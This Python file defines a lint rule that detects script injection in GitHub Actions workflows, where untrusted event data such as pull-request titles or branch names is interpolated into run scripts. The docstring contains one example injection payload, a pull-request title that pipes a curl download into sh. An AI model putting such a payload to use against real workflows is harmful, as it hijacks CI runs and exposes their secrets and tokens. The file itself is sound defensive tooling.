"""## What it does
Flags GitHub Actions `run:` scripts (and `actions/github-script` scripts) that interpolate
attacker-controlled event data with `${{ … }}`: issue and pull-request titles and bodies,
comments, review bodies, commit messages and author names, branch names (`github.head_ref`,
`pull_request.head.ref`), page names, discussion titles.

## Why is this bad?
`${{ }}` is expanded into the script text before the shell runs it, so a pull-request title
such as `"; curl evil.sh | sh; echo "` runs as code in your workflow, with its secrets and its
`GITHUB_TOKEN`.

## Example
```yaml
- run: echo "Checking ${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "Checking $TITLE"
```

## References
- CWE-78: OS Command Injection; CWE-94: Code Injection
- OWASP A03:2021 Injection / A05:2025 Injection
- GitHub Security Lab, "Keeping your GitHub Actions and workflows secure: untrusted input"
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from vigilint.analyzers.context import FileContext, Hit
from vigilint.analyzers.rules.config._tree import YNode
from vigilint.analyzers.rules.config._workflows import WORKFLOW_PATHS, steps
from vigilint.model import Rule

_EXPRESSION = re.compile(r"\$\{\{(?P<expr>[^}]{1,300})\}\}")
UNTRUSTED = re.compile(
    r"\bgithub\.(?:head_ref\b|event\.(?:"
    r"issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|"
    r"comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|"
    r"pages\b[^\s]*\.page_name|commits\b[^\s]*\.(?:message|author\.(?:email|name))|"
    r"head_commit\.(?:message|author\.(?:email|name))|"
    r"workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|display_title)|"
    r"inputs\.[\w-]+|client_payload\b[^\s]*))")


def _script_nodes(step: YNode) -> Iterator[YNode]:
    run = step.get("run")
    if run is not None and isinstance(run.value, str):
        yield run
    uses = step.scalar("uses")
    if isinstance(uses, str) and uses.startswith("actions/github-script"):
        script = step.get("with", "script")
        if script is not None and isinstance(script.value, str):
            yield script


def _check(ctx: FileContext) -> Iterator[Hit]:
    for _, step in steps(ctx):
        for script in _script_nodes(step):
            raw = ctx.source[script.node.start_byte:script.node.end_byte].decode("utf-8",
                                                                                   "replace")
            for match in _EXPRESSION.finditer(raw):
                untrusted = UNTRUSTED.search(match.group("expr"))
                if untrusted is None:
                    continue
                start = script.node.start_byte + len(raw[: match.start()].encode("utf-8"))
                end = start + len(match.group(0).encode("utf-8"))
                yield Hit(byte_range=(start, end),
                          message=f"`{untrusted.group(0)}` is attacker-controlled and is "
                                  "expanded into the script; pass it through `env:` and use "
                                  "the shell variable instead.")


RULE = Rule(
    id="VG-GHA-INJ-001",
    name="actions-script-injection",
    category="injection",
    languages=("yaml",),
    cwe=(78, 94),
    likelihood="very-likely",
    impact="high",
    confidence="high",
    message="Untrusted event data is expanded into a workflow script.",
    check_file=_check,
    paths=WORKFLOW_PATHS,
)
